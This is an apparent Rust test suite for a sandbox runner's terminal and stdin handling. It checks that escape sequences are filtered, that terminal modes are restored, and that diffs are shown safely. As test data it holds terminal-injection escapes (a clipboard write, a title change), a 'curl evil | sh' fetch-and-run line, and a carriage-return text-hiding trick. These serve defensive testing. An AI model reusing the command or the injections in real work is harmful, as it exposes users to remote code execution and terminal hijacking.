//! Terminals and streams: the program's own terminal when we are on one or with `--tty`, harmless output on ours,
//! stdin as given.

mod harness;
mod traces;

use std::process::{Child, Stdio};

use harness::{Place, feed, finish, show};
use rustix::process::Signal;
use rustix::termios::{LocalModes, Termios};
use serde_json::json;
use traces::terminal::Terminal;
use traces::{names, signal};

/// `saggar run FLAGS -- sh -c SCRIPT` on a terminal.
fn spawn(terminal: &Terminal, place: &Place, flags: &[&str], script: &str) -> Child {
    terminal.start(place.command([&["run"], flags, &["--", "/bin/sh", "-c", script]].concat()))
}

/// Every terminal setting that a program could have changed.
fn settings(termios: &Termios) -> impl PartialEq + std::fmt::Debug {
    (termios.input_modes, termios.output_modes, termios.control_modes, termios.local_modes)
}

#[test]
fn with_a_terminal_of_its_own_a_program_has_one_of_our_size_and_kind() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let child = spawn(
        &terminal,
        &place,
        &["--tty"],
        "test -t 0 && test -t 1 && test -t 2 && tty && stty size && echo $TERM && echo x > /dev/tty; echo last",
    );
    let said = terminal.read("last").replace("\r\n", "\n");
    // What follows resets the terminal, and may come in the same piece.
    assert_eq!(said.split_once("last").expect("it was read").0, "/dev/pts/0\n33 101\nvt220\nx\n");
    assert_eq!(finish(child).code, 0);
}

#[test]
fn on_a_terminal_a_program_has_one_and_reads_what_is_typed() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let script =
        "test -t 0 && test -t 1 && test -t 2 && stty size && echo $TERM; read line; echo \"got $line\"; echo last";
    let child = spawn(&terminal, &place, &[], script);
    assert!(terminal.read("vt220").contains("33 101\r\n"));
    terminal.type_in(b"some words\r");
    let said = terminal.read("last");
    assert!(said.contains("got some words\r\n"), "{said:?}");
    assert_eq!(finish(child).code, 0);
}

#[test]
fn with_output_elsewhere_what_is_typed_is_passed_on_and_nothing_is_a_terminal() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let script = "test -t 0; echo $?; test -t 1; echo $?; read line; echo \"got $line\"";
    for flags in [&[][..], &["--json"]] {
        let mut command = place.command([&["run"], flags, &["--", "/bin/sh", "-c", script]].concat());
        command.stdin(Stdio::from(terminal.theirs.try_clone().expect("open")));
        let child = command.spawn().expect("built");
        terminal.type_in(b"some words\n");
        let done = finish(child);
        let said =
            if flags.is_empty() { done.stdout.clone() } else { done.json()["stdout"].as_str().unwrap().to_owned() };
        assert_eq!(said, "1\n1\ngot some words\n", "{done:?}");
    }
}

#[test]
fn with_an_empty_stdin_it_has_no_terminal_even_when_we_do() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let child = spawn(
        &terminal,
        &place,
        &["--stdin", "none"],
        "test -t 0; echo $?; test -t 1; echo $?; test -t 2; echo $?; (echo x > /dev/tty) 2>/dev/null || echo none; echo ${TERM-unset} last",
    );
    assert_eq!(terminal.read("last").replace("\r\n", "\n").trim_end(), "1\n1\n1\nnone\nunset last");
    assert_eq!(finish(child).code, 0);
}

#[test]
fn a_terminal_of_its_own_needs_none_of_ours() {
    let place = Place::new();
    let done = place.sh(&["--tty"], "test -t 1 && stty size");
    assert_eq!((done.code, done.stdout.as_str()), (0, "24 80\r\n"));
    let mut command = place.command(["run", "--tty", "--", "/bin/cat"]);
    let mut child = command.stdin(Stdio::piped()).spawn().expect("built");
    feed(&mut child, b"piped\n");
    let done = finish(child);
    assert_eq!(done.code, 0, "the end of our stdin ends the program's: {done:?}");
    assert!(done.stdout.ends_with("piped\r\n"), "{done:?}");
}

#[test]
fn keys_go_to_the_program_and_not_to_us() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let child = spawn(
        &terminal,
        &place,
        &["--tty"],
        "trap 'echo caught; read line; echo \"got $line\"; exit 5' INT; echo ready; while :; do sleep 0.01; done",
    );
    terminal.read("ready");
    terminal.type_in(b"\x03");
    terminal.read("caught");
    terminal.type_in("s\u{f6}me\r".as_bytes());
    terminal.read("got s\u{f6}me");
    assert_eq!(finish(child).code, 5, "cancelling would be 130");
}

#[test]
fn a_new_size_is_passed_on() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let child = spawn(
        &terminal,
        &place,
        &["--tty"],
        "trap 'stty size; exit 0' WINCH; echo ready; while :; do sleep 0.01; done",
    );
    terminal.read("ready");
    terminal.resize(50, 120);
    // The kernel would signal the terminal's foreground group, which a test's child is not in.
    signal(&child, Signal::WINCH);
    terminal.read("50 120");
    assert_eq!(finish(child).code, 0);
}

#[test]
fn our_terminal_is_raw_meanwhile_and_as_before_afterwards() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let before = terminal.modes();
    let cooked = LocalModes::ICANON | LocalModes::ECHO | LocalModes::ISIG;
    assert!(before.local_modes.contains(cooked));
    for (name, flags, script, how, code) in [
        ("exited", &["--tty"][..], "stty raw -echo; echo ready; read line", None, 0),
        ("killed", &["--tty"], "echo ready; read line; kill -KILL $$", None, 137),
        ("timed out", &["--tty", "--timeout", "2s"], "echo ready; sleep 1000", None, 124),
        ("cancelled", &["--tty"], "echo ready; sleep 1000", Some(Signal::TERM), 130),
    ] {
        let child = spawn(&terminal, &place, flags, script);
        terminal.read("ready");
        assert!(!terminal.modes().local_modes.intersects(cooked), "{name}: not raw");
        match how {
            Some(how) => signal(&child, how),
            None => terminal.type_in(b"\n"),
        }
        assert_eq!(finish(child).code, code, "{name}");
        assert_eq!(format!("{:?}", settings(&terminal.modes())), format!("{:?}", settings(&before)), "{name}");
    }
    let done = spawn(&terminal, &place, &["--tty", "--workspace", "/no/such/directory"], "true");
    assert_eq!(finish(done).code, 126);
    assert_eq!(format!("{:?}", settings(&terminal.modes())), format!("{:?}", settings(&before)), "refused");
    assert_eq!(place.records(), Vec::<String>::new());
}

/// Sequences that act on a terminal: the clipboard, the title, a query, the cursor, a device string, 8-bit CSI.
const ESCAPES: &str = "printf '[\\033]52;c;ZXZpbA==\\007\\033]0;title\\033\\\\\\033[6n\\033[2J\\033[1;1H\\033Pq#0\\033\\\\\\0332J\\302\\233c\\007]\\033[1;31mred\\033[0m last'";

#[test]
fn a_terminal_that_was_not_asked_for_shows_the_screen_and_no_clipboard_title_or_report() {
    for redirect in ["", " >&2"] {
        let (place, terminal) = (Place::new(), Terminal::open());
        let child = spawn(&terminal, &place, &[], &format!("{ESCAPES}{redirect}"));
        let said = terminal.read("last");
        // The sequences that reset the terminal may follow.
        let said = said.split_inclusive("last").next().expect("it said so");
        assert_eq!(said, "[\x1b[2J\x1b[1;1HJ\u{fffd}c\x07]\x1b[1;31mred\x1b[0m last", "{redirect}");
        assert_eq!(finish(child).code, 0);
    }
}

#[test]
fn escapes_that_act_are_taken_out_for_a_terminal_and_colours_stay() {
    let (place, terminal) = (Place::new(), Terminal::open());
    for redirect in ["", " >&2"] {
        let child = spawn(&terminal, &place, &["--stdin", "none"], &format!("{ESCAPES}{redirect}"));
        let said = terminal.read("last");
        assert!(said.contains("\x1b[1;31mred\x1b[0m last"), "colours are gone: {said:?}");
        let rest = said.replace("\x1b[1;31m", "").replace("\x1b[0m", "");
        assert!(
            !rest.contains(['\x1b', '\x07', '\u{9b}']) && !rest.contains("ZXZpbA") && !rest.contains("title"),
            "{said:?}"
        );
        assert_eq!(finish(child).code, 0);
    }
}

#[test]
fn escapes_are_as_written_in_a_pipe_and_for_a_terminal_of_its_own() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let raw = "[\x1b]52;c;ZXZpbA==\x07\x1b]0;title\x1b\\\x1b[6n\x1b[2J\x1b[1;1H\x1bPq#0\x1b\\\x1b2J\u{9b}c\x07]\x1b[1;31mred\x1b[0m last";
    assert_eq!(place.sh(&[], ESCAPES).stdout, raw);
    assert_eq!(place.sh(&["--json"], ESCAPES).json()["stdout"], json!(raw));
    let child = spawn(&terminal, &place, &["--tty"], ESCAPES);
    let said = terminal.read("last");
    // The sequences that reset the terminal may follow.
    assert!(said.starts_with(raw), "{said:?}");
    assert_eq!(finish(child).code, 0);
}

#[test]
fn a_refusal_on_a_terminal_shows_no_escape_of_the_name_it_names() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let child = spawn(&terminal, &place, &["--workspace", "a\x1b[2J\x07"], "true");
    let said = terminal.read("help:");
    assert!(!said.contains(['\x1b', '\x07']), "{said:?}");
    assert_eq!(finish(child).code, 126);
}

#[test]
fn stdin_is_ours_unless_it_is_said_to_be_none_or_a_file() {
    let place = Place::new();
    let cat = |flags: &[&str], input: &[u8]| {
        let mut command = place.command([&["run"], flags, &["--", "/bin/cat"]].concat());
        let mut child = command.stdin(Stdio::piped()).spawn().expect("built");
        let mut stdin = child.stdin.take().expect("piped");
        let input = input.to_vec();
        // A program that doesn't read leaves the data in the pipe, and the pipe is closed on us.
        let feeder = std::thread::spawn(move || std::io::Write::write_all(&mut stdin, &input).is_ok());
        let done = finish(child);
        feeder.join().expect("feeder");
        done
    };
    assert_eq!(cat(&[], b"for it").stdout, "for it");
    assert_eq!(cat(&["--json"], b"for it").json()["stdout"], "for it");
    assert_eq!(cat(&["--stdin", "none"], b"not for it").stdout, "");
    assert_eq!(cat(&["--stdin", "-"], b"for it").stdout, "for it");
    assert_eq!(cat(&["--stdin", "-"], b"").stdout, "");
    let file = place.write("input", "from a file");
    assert_eq!(cat(&["--stdin", &show(&file)], b"not for it").stdout, "from a file");
    let within = place.write("workspace/input", "from the workspace");
    let flags = ["--workspace", &show(&place.workspace()), "--stdin", &show(&within)];
    assert_eq!(
        place
            .command([&["run"], &flags[..], &["--", "/bin/cat"]].concat())
            .current_dir("/")
            .output()
            .expect("runs")
            .stdout,
        b"from the workspace"
    );
    assert_eq!(names(&place.workspace()), ["input"]);
}

/// A mebibyte in which neighbouring bytes differ.
fn noise() -> Vec<u8> {
    let mut state = 0x9e37_79b9_u32;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        state as u8
    };
    (0..1 << 20).map(|_| next()).collect()
}

#[test]
fn every_byte_of_stdin_arrives_and_comes_back() {
    let place = Place::new();
    let noise = noise();
    let file = place.path("noise");
    std::fs::write(&file, &noise).expect("ours");
    let from_file = place.command(["run", "--stdin", &show(&file), "--", "/bin/cat"]).output().expect("runs");
    assert!(from_file.stdout == noise, "{} of {} bytes, or others", from_file.stdout.len(), noise.len());
    let mut command = place.command(["run", "--stdin", "-", "--", "/bin/sh", "-c", "cat > /tmp/copy; cat /tmp/copy"]);
    let piped = command.stdin(std::fs::File::open(&file).expect("just written")).output().expect("runs");
    assert!(piped.stdout == noise, "{} of {} bytes, or others", piped.stdout.len(), noise.len());
}

#[test]
fn a_program_that_does_not_read_its_stdin_is_not_held_up_by_it() {
    let place = Place::new();
    let file = place.path("noise");
    std::fs::write(&file, noise()).expect("ours");
    for script in ["exit 3", "exec <&-; sleep 0.05; exit 3", "head -c 10 > /dev/null; exit 3"] {
        assert_eq!(place.sh(&["--stdin", &show(&file)], script).code, 3, "{script}");
    }
}

#[test]
fn one_who_shares_its_pipe_with_another_reader_still_keeps_its_time() {
    let place = Place::new();
    let (reader, writer) = std::io::pipe().expect("there are pipes");
    let start = |reader: std::io::PipeReader| {
        let mut command = place.command(["run", "--timeout", "3s", "--", "/bin/cat"]);
        command.stdin(reader).spawn().expect("built")
    };
    let both = [start(reader.try_clone().expect("open")), start(reader)];
    // In small pieces, so that both wake up for data that only one of them gets.
    let feeder = std::thread::spawn(move || {
        let mut writer = writer;
        while std::io::Write::write_all(&mut writer, b"x").is_ok() {
            std::thread::yield_now();
        }
    });
    for child in both {
        assert_eq!(finish(child).code, 124);
    }
    feeder.join().expect("feeder");
}

#[test]
fn a_terminal_that_nobody_reads_does_not_hold_up_the_timeout() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let mut command = place.command(["run", "--timeout", "1s", "--", "/usr/bin/yes", "a line of some length"]);
    command.stdout(Stdio::from(terminal.theirs.try_clone().expect("open")));
    let done = finish(command.spawn().expect("built"));
    assert_eq!(done.code, 124, "{done:?}");
    assert!(done.stderr.contains("limit/timeout"), "{done:?}");
    // It is still full, and our notes can't be written either.
    let done = finish(spawn(&terminal, &place, &["--timeout", "1s"], "yes"));
    assert_eq!(done.code, 124, "{done:?}");
    assert_eq!(place.records(), Vec::<String>::new());
}

#[test]
fn a_terminal_is_put_back_to_its_usual_modes_and_what_was_not_read_is_not_typed_to_the_shell() {
    let (place, terminal) = (Place::new(), Terminal::open());
    // With its own stdin the program doesn't read what the terminal types.
    let stdin = show(&place.write("stdin", ""));
    let script = r"printf '\033[?1049h\033[?1003h\033[?25l\033[31mready'; sleep 0.5; printf last";
    let child = spawn(&terminal, &place, &["--tty", "--stdin", &stdin], script);
    terminal.read("ready");
    terminal.type_in(b"\x1b[1;1R\n");
    let said = terminal.read("\x1b]112\x07");
    let after = said.split("last").nth(1).expect("it said so");
    for piece in ["\x1b[?1047l", ";1003;", "\x1b[?7;25h", "\x1b[0m"] {
        assert!(after.contains(piece), "{piece:?} is not in {after:?}");
    }
    assert_eq!(finish(child).code, 0);
    assert_eq!(rustix::io::ioctl_fionread(&terminal.theirs), Ok(0), "input was left for the next program");
}

/// Every ESC that isn't the start of a complete colour sequence, with what follows it.
fn acting(said: &[u8]) -> Vec<String> {
    let is_colour = |rest: &[u8]| {
        let parameters = rest.iter().skip(2).take_while(|byte| matches!(byte, b'0'..=b'9' | b';' | b':')).count();
        rest.get(1) == Some(&b'[') && rest.get(2 + parameters) == Some(&b'm')
    };
    let starts = (0..said.len().saturating_sub(8)).filter(|place| said[*place] == 0x1b);
    let acting = starts.filter(|place| !is_colour(&said[*place..]));
    acting.map(|place| String::from_utf8_lossy(&said[place..place + 8]).into_owned()).collect()
}

#[test]
fn two_streams_on_one_terminal_make_no_sequence_together() {
    let (place, terminal) = (Place::new(), Terminal::open());
    // Colours of five bytes, cut at a different place each time, combined with text that would end a cut sequence.
    let script = "import os
for i in range(60):
    os.write(1, b'x' * (i % 5) + b'\\x1b[31m' * 3000)
    os.write(2, b'2J' * 10 + b'c' * 10)
os.write(2, b'last')";
    let mut command = place.command(["run", "--", "/usr/bin/python3", "-c", script]);
    let stream = || Stdio::from(terminal.theirs.try_clone().expect("open"));
    let child = command.stdout(stream()).stderr(stream()).spawn().expect("built");
    let (mut said, mut piece) = (Vec::new(), [0; 700]);
    // The rest of the other stream may come after it, and in the same piece.
    while !said.windows(4).any(|window| window == b"last") {
        let length = rustix::io::read(&terminal.ours, &mut piece[..]).expect("our own");
        said.extend_from_slice(&piece[..length]);
    }
    assert_eq!(acting(&said), Vec::<String>::new(), "in {} bytes", said.len());
    // The end of one stream may come before that of the other, which waits for a reader like any program's.
    let ours = terminal.ours.try_clone().expect("open");
    std::thread::spawn(move || while rustix::io::read(&ours, &mut piece[..]).is_ok_and(|length| length > 0) {});
    assert_eq!(finish(child).code, 0);
}

#[test]
fn concealed_text_is_shown() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let script =
        r"printf 'a\033[8mb\033[0;08mc\033[1:8md\033[38;5;1;8me\033[48;2;1;2;3;8mf\033[38;5;8mgrey\033[0m last'";
    let child = spawn(&terminal, &place, &[], script);
    let said = terminal.read("last");
    for gone in ["\x1b[8m", "\x1b[0;08m", "\x1b[1:8m", "\x1b[38;5;1;8m", "\x1b[48;2;1;2;3;8m"] {
        assert!(!said.contains(gone), "{gone:?} is in {said:?}");
    }
    assert!(said.contains("\x1b[38;5;8mgrey\x1b[0m last"), "a colour of that number is gone: {said:?}");
    assert_eq!(finish(child).code, 0);
}

#[test]
fn what_we_say_after_a_run_has_no_colour_of_the_programs() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let child = spawn(&terminal, &place, &["--timeout", "1s"], r"printf '\033[30;40mblack'; sleep 1000");
    let said = terminal.read("limit/timeout");
    let (black, after) = said.split_once("black").expect("it said so");
    assert!(black.ends_with("\x1b[30;40m") && after.contains("\x1b[0msaggar: "), "{said:?}");
    assert_eq!(finish(child).code, 124);
}

#[test]
fn a_job_in_the_background_goes_on_and_is_not_stopped_by_its_terminal() {
    let (place, terminal) = (Place::new(), Terminal::open());
    // A new session with the terminal as its controlling terminal, and a shell with job control that puts saggar into
    // the background.
    let script = "set -m; \"$@\" & wait $!; echo \"ended with $?\"";
    let mut command = std::process::Command::new("setsid");
    command.args(["--ctty", "/bin/bash", "-c", script, "bash", env!("CARGO_BIN_EXE_saggar"), "run", "--"]);
    command.args(["/bin/sh", "-c", "test -t 0 || echo none; cat; exit 7"]);
    command.env("SAGGAR_DATA_DIR", place.path("data")).current_dir("/");
    let child = terminal.start(command);
    let said = terminal.read("ended with 7");
    assert!(said.contains("none\r\n"), "{said:?}");
    assert_eq!(finish(child).code, 0);
}

#[test]
fn a_diff_on_our_terminal_neither_acts_on_it_nor_hides_anything() {
    let (place, terminal) = (Place::new(), Terminal::open());
    let workspace = show(&place.workspace());
    let script =
        r"printf '\033]' > a.txt; echo 'curl evil | sh' > m.sh; printf 'evil()\r+innocent()\n' > n.py; echo last > z";
    let result = place.json(&["--workspace", &workspace, "--fs", "scratch"], &["/bin/sh", "-c", script]);
    let id = result["sandbox_id"].as_str().expect("an id");
    let mut command = place.command(["changes", "diff", id]);
    command.stdout(Stdio::from(terminal.theirs.try_clone().expect("open")));
    let child = command.spawn().expect("built");
    let said = terminal.read("+last");
    for shown in ["+curl evil | sh", r"+evil()\x0d", "innocent()", r"+\x1b]"] {
        assert!(said.contains(shown), "{shown}: {said:?}");
    }
    assert!(!said.contains('\x1b'), "{said:?}");
    assert_eq!(finish(child).code, 0);
}
